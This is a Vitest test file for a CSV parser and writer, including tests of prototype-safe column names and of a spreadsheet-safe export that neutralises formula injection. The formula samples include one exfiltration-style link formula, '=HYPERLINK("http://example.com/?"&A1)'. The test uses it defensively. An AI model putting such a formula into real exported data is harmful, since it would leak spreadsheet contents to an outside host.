import { describe, expect, test } from 'vitest';
import { ApiError } from '../http/api-error.js';
import { type CsvTable, csvRecord, csvValues, parseCsv, readCsv, requireColumns, spreadsheetText } from './csv.js';

/** The values of each row, for assertions that do not look at row numbers or problems. */
const values = (table: CsvTable) => table.rows.map((row) => row.values);

/** The `details` of the ApiError that `run` throws. */
const refusal = (run: () => unknown): { status: number; key: string; details: string | undefined } => {
  try {
    run();
  } catch (error) {
    if (error instanceof ApiError) return { status: error.status, key: error.key, details: error.extras.details };
    throw error;
  }
  throw new Error('expected an ApiError');
};

describe('parseCsv', () => {
  test('reads the header and rows, numbering rows from 1 after the header', () => {
    const table = parseCsv('code,category\nSUMMER-1,Seasonal\nSUMMER-2,Seasonal\n');
    expect(table.columns).toEqual(['code', 'category']);
    expect(table.rows).toEqual([
      { row: 1, line: 2, values: { code: 'SUMMER-1', category: 'Seasonal' } },
      { row: 2, line: 3, values: { code: 'SUMMER-2', category: 'Seasonal' } },
    ]);
  });

  test('quoted values hold commas, doubled quotes and empty text; values are not trimmed', () => {
    const table = parseCsv('code,note\nA,"one, two"\nB,"say ""hi"""\nC,""\nD, spaced \n"E",""""\n');
    expect(values(table)).toEqual([
      { code: 'A', note: 'one, two' },
      { code: 'B', note: 'say "hi"' },
      { code: 'C', note: '' },
      { code: 'D', note: ' spaced ' },
      { code: 'E', note: '"' },
    ]);
    expect(table.rows.every((row) => row.problem === undefined)).toBe(true);
  });

  test('quoted values hold line breaks as written; line numbers count them', () => {
    const table = parseCsv('code,note\nA,"first\nsecond"\nB,"x\r\ny"\r\nC,"lone\rcr"\nD,after\n');
    expect(values(table)).toEqual([
      { code: 'A', note: 'first\nsecond' },
      { code: 'B', note: 'x\r\ny' },
      { code: 'C', note: 'lone\rcr' },
      { code: 'D', note: 'after' },
    ]);
    expect(table.rows.map((row) => [row.row, row.line])).toEqual([
      [1, 2],
      [2, 4],
      [3, 6],
      [4, 8],
    ]);
  });

  test('CRLF, LF and CR line ends, with or without a final line end, read alike', () => {
    const expected = [
      { a: '1', b: '2' },
      { a: '3', b: '4' },
    ];
    for (const text of [
      'a,b\r\n1,2\r\n3,4\r\n',
      'a,b\n1,2\n3,4\n',
      'a,b\r1,2\r3,4\r',
      'a,b\r\n1,2\r\n3,4',
      'a,b\n1,2\r\n3,4\r',
    ]) {
      expect({ text, rows: values(parseCsv(text)) }).toEqual({ text, rows: expected });
    }
  });

  test('a UTF-8 byte order mark is dropped, so the first column keeps its name', () => {
    const table = parseCsv('\uFEFFcode,name\r\nA,Alpha\r\n');
    expect(table.columns).toEqual(['code', 'name']);
    expect(values(table)).toEqual([{ code: 'A', name: 'Alpha' }]);
    expect(parseCsv('code\n\uFEFFA\n').rows[0]?.values).toEqual({ code: '\uFEFFA' });
  });

  test('empty lines are skipped and do not count as rows; header names are trimmed', () => {
    const table = parseCsv('\n\n code , name \r\n\r\nA,Alpha\n\n\nB,Beta\n\n');
    expect(table.columns).toEqual(['code', 'name']);
    expect(table.rows.map(({ row, line, values: v }) => ({ row, line, code: v['code'] }))).toEqual([
      { row: 1, line: 5, code: 'A' },
      { row: 2, line: 8, code: 'B' },
    ]);
  });

  test('a header alone gives no rows; a value-less line of commas is a row of empty values', () => {
    expect(parseCsv('code,name\n').rows).toEqual([]);
    expect(parseCsv('code,name').rows).toEqual([]);
    expect(parseCsv('code,name\n,\n').rows).toEqual([{ row: 1, line: 2, values: { code: '', name: '' } }]);
  });

  test('ragged rows keep a problem and the values they reached; the other rows are unaffected', () => {
    const table = parseCsv('code,name,note\nA,Alpha,x\nB,Beta\nC,Gamma,y,extra\nD\nE,Eta,z\n');
    expect(table.rows.map((row) => [row.row, row.problem])).toEqual([
      [1, undefined],
      [2, 'The row has 2 value(s), but the header names 3 column(s).'],
      [3, 'The row has 4 value(s), but the header names 3 column(s).'],
      [4, 'The row has 1 value(s), but the header names 3 column(s).'],
      [5, undefined],
    ]);
    expect(table.rows[1]?.values).toEqual({ code: 'B', name: 'Beta' });
    expect(table.rows[2]?.values).toEqual({ code: 'C', name: 'Gamma', note: 'y' });
    expect(table.rows[3]?.values).toEqual({ code: 'D' });
  });

  test('text after a closing quote and NUL characters fail only their row', () => {
    const table = parseCsv('code,note\nA,"quoted"tail\nB,"a" \nC,fine\nD,nul\u0000here\n');
    expect(table.rows.map((row) => row.problem)).toEqual([
      'Value 2 has text after its closing quote.',
      'Value 2 has text after its closing quote.',
      undefined,
      'Column note must not contain NUL characters.',
    ]);
    expect(table.rows[0]?.values).toEqual({ code: 'A', note: 'quotedtail' });
  });

  test('a quote inside an unquoted value is kept as text', () => {
    expect(values(parseCsv('name,size\nScreen,15" wide\n'))).toEqual([{ name: 'Screen', size: '15" wide' }]);
  });

  test('files that cannot be read as a table are refused as a whole with invalid_payload', () => {
    const cases: [string, string][] = [
      ['', 'The file is empty: its first line must name the columns.'],
      ['\n\r\n\n', 'The file is empty: its first line must name the columns.'],
      ['\uFEFF', 'The file is empty: its first line must name the columns.'],
      ['code,,name\nA,B,C\n', 'Column 2 of the header has no name.'],
      ['code,name,\nA,B,\n', 'Column 3 of the header has no name.'],
      ['code,Code,code\n', 'The header names the column "code" twice.'],
      ['code, code\n', 'The header names the column "code" twice.'],
      ['"code"x,name\nA,B\n', 'The header is malformed: Value 1 has text after its closing quote.'],
      ['code,note\nA,"open\nB,closed\n', 'The quoted value that starts on line 2 is not closed.'],
      ['code,note\nA,x\nB,"never\r\nclosed', 'The quoted value that starts on line 3 is not closed.'],
    ];
    for (const [text, details] of cases) {
      expect({ text, refusal: refusal(() => parseCsv(text)) }).toEqual({
        text,
        refusal: { status: 400, key: 'invalid_payload', details },
      });
    }
  });

  test('column names are case-sensitive and may be any text, including names of Object properties', () => {
    const table = parseCsv('Code,code,__proto__,constructor\nA,b,c,d\n');
    expect(table.rows[0]?.values).toEqual({ Code: 'A', code: 'b', ['__proto__']: 'c', constructor: 'd' });
    expect(Object.getPrototypeOf(table.rows[0]?.values)).toBe(Object.prototype);
  });
});

describe('csvValues and requireColumns', () => {
  test('csvValues gives the values of a sound row and throws the problem of a broken one', () => {
    const [sound, ragged] = parseCsv('code,name\nA,Alpha\nB\n').rows;
    if (!sound || !ragged) throw new Error('expected two rows');
    expect(csvValues(sound)).toEqual({ code: 'A', name: 'Alpha' });
    expect(refusal(() => csvValues(ragged))).toEqual({
      status: 400,
      key: 'invalid_payload',
      details: 'The row has 1 value(s), but the header names 2 column(s).',
    });
  });

  test('requireColumns passes a table with the columns and refuses one without them', () => {
    const table = parseCsv('code,name\n');
    expect(requireColumns(table, ['code'])).toBe(table);
    expect(refusal(() => requireColumns(table, ['code', 'source_id']))).toEqual({
      status: 400,
      key: 'invalid_payload',
      details: 'The file has no column "source_id"; its header names code, name.',
    });
  });
});

describe('readCsv', () => {
  test('reads an uploaded file as UTF-8, with or without a byte order mark', async () => {
    const withBom = new Blob([new Uint8Array([0xef, 0xbb, 0xbf]), 'code,name\r\nA,Zoë\r\n']);
    expect(values(await readCsv(withBom))).toEqual([{ code: 'A', name: 'Zoë' }]);
    expect(values(await readCsv(new Blob(['code\nB\n'])))).toEqual([{ code: 'B' }]);
  });

  test('refuses bytes that are not UTF-8', async () => {
    const latin1 = new Blob([new Uint8Array([0x63, 0x6f, 0x64, 0x65, 0x0a, 0x5a, 0x6f, 0xeb, 0x0a])]);
    await expect(readCsv(latin1)).rejects.toMatchObject({
      status: 400,
      key: 'invalid_payload',
      extras: { details: 'The file is not UTF-8 text.' },
    });
  });
});

describe('csvRecord', () => {
  test('quotes only fields with a comma, a quote or a line break, doubling quotes, and ends with CRLF', () => {
    expect(
      csvRecord(['plain', 'one, two', 'say "hi"', 'two\nlines', 'cr\rhere', 1500, false, null, undefined, '']),
    ).toBe('plain,"one, two","say ""hi""","two\nlines","cr\rhere",1500,false,,,\r\n');
  });

  test('parseCsv reads written records back to the same text', () => {
    const values = ['A,B', '"quoted"', ' spaced ', 'line\r\nbreak', '', '=1+1'];
    const text = csvRecord(values.map((_value, index) => `c${index}`)) + csvRecord(values);
    const { rows } = parseCsv(text);
    expect(Object.values(rows[0]?.values ?? {})).toEqual(values);
    expect(rows[0]?.problem).toBeUndefined();
  });

  test('a spreadsheet-safe record puts a single quote before text a spreadsheet would run as a formula', () => {
    const formulas = [
      '=1+1',
      '+SUM(A1:A2)',
      '-2*3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      '-',
      '+1+1',
      '=HYPERLINK("http://example.com/?"&A1)',
    ];
    expect(formulas.map(spreadsheetText)).toEqual(formulas.map((text) => `'${text}`));
    expect(csvRecord(['=1+1', '@x', '\r=1', '=A1,B1'], { spreadsheetSafe: true })).toBe(
      '\'=1+1,\'@x,"\'\r=1","\'=A1,B1"\r\n',
    );
  });

  test('a spreadsheet-safe record keeps numbers numbers, negative ones and numbers written as text included', () => {
    expect(
      csvRecord([-100, -0.5, 1500, '-100', '+1.5', '-2e3', '.5', 'a=b', 'x-1', true, null], { spreadsheetSafe: true }),
    ).toBe('-100,-0.5,1500,-100,+1.5,-2e3,.5,a=b,x-1,true,\r\n');
  });

  test('a spreadsheet-safe record quotes fields with a semicolon, the separator of spreadsheets in many locales', () => {
    expect(csvRecord(['a;=1+1', 'plain'], { spreadsheetSafe: true })).toBe('"a;=1+1",plain\r\n');
    expect(csvRecord(['a;=1+1'])).toBe('a;=1+1\r\n');
  });

  test('without the option, values are written as they are', () => {
    expect(csvRecord(['=1+1', '-2*3', '@x'])).toBe('=1+1,-2*3,@x\r\n');
  });

  test('parseCsv reads a spreadsheet-safe record back with the quotes it added and nothing else changed', () => {
    const values = ['=1+1', '-100', 'say "hi"', 'a;b', 'line\r\nbreak'];
    const { rows } = parseCsv(
      csvRecord(values.map((_value, index) => `c${index}`)) + csvRecord(values, { spreadsheetSafe: true }),
    );
    expect(Object.values(rows[0]?.values ?? {})).toEqual(["'=1+1", '-100', 'say "hi"', 'a;b', 'line\r\nbreak']);
  });
});
